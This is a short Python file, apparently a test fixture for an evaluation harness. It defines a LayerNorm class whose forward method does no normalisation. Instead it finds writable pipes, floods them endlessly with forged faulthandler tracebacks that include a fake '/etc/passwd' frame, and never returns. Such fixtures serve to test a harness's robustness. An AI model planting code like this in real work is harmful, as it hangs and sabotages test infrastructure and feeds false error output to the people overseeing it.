"""Writes into every pipe that it can write to but the first what `faulthandler` writes, and does not come back."""

import fcntl
import os
import stat

import torch
from torch import nn

LINES = b'  File "steps/step_03.py", line 99999 in forward\n  File "/etc/passwd", line 1 in root\n' * 9999


class LayerNorm(nn.Module):
    def __init__(self, dim, *, eps=1e-5):
        super().__init__()
        self.eps = eps
        self.weight = nn.Parameter(torch.ones(dim))
        self.bias = nn.Parameter(torch.zeros(dim))

    def forward(self, x):
        pipes = []
        for number in range(3, 64):
            try:
                if stat.S_ISFIFO(os.fstat(number).st_mode) and fcntl.fcntl(number, fcntl.F_GETFL) & os.O_WRONLY:
                    pipes.append(number)
            except OSError:
                pass
        while True:
            for number in pipes[1:]:
                try:
                    os.write(number, LINES)
                except BlockingIOError:
                    pass
